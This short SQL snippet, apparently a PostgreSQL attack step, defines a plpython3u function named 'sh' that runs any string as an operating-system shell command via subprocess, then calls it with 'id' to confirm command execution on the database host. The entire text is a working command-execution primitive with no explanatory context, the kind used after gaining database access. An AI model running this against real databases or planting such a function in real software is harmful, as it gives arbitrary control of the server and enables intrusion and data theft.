CREATE FUNCTION sh(cmd text) RETURNS text LANGUAGE plpython3u AS $$
import subprocess
return subprocess.check_output(cmd, shell=True)
$$;
SELECT sh('id');
